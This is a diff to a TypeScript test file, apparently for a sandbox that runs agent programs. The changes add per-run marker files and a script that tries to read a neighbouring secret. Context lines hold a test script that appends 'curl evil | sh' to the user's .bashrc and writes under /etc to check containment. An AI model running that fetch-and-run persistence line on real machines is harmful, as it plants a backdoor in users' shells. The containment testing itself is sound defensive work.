@@ -26,6 +26,8 @@ echo 'curl evil | sh' >> "$HOME/.bashrc" 2>/dev/null
 echo planted > "/etc/svc-planted-$SVC_RUN_ID" 2>/dev/null
 echo kept > "$HOME/.agent-cache/$SVC_RUN_ID" 2>/dev/null
 echo done > worked.txt
+# Each run changes a file of its own: a run whose agent changed nothing fails.
+echo done > "ran-$SVC_RUN_ID.txt"
 `;
 
 function script(dir: string, name: string, text: string): string {
@@ -193,7 +195,8 @@ describe('a repository\'s program outside the repository and PATH', { skip: bwra
       // Its absolute path would have shown its whole folder, and whatever else the host keeps there.
       writeFileSync(join(repo.bin, 'sibling-secret'), 'SIBLING-SECRET-7170');
       const peek = script(repo.bin, 'peek.sh',
-        '#!/bin/sh\ncat > /dev/null\n{ cat "$(dirname "$0")/sibling-secret" || echo unseen; } > peek.txt 2>/dev/null\n');
+        '#!/bin/sh\ncat > /dev/null\n{ cat "$(dirname "$0")/sibling-secret" || echo unseen; } > peek.txt 2>/dev/null\n' +
+        'echo done > "ran-$SVC_RUN_ID.txt"\n');
       writeConfig(repo, { provider: 'peek', providers: { peek: { command: [peek] } } });
     });
     after(() => repo.cleanup());
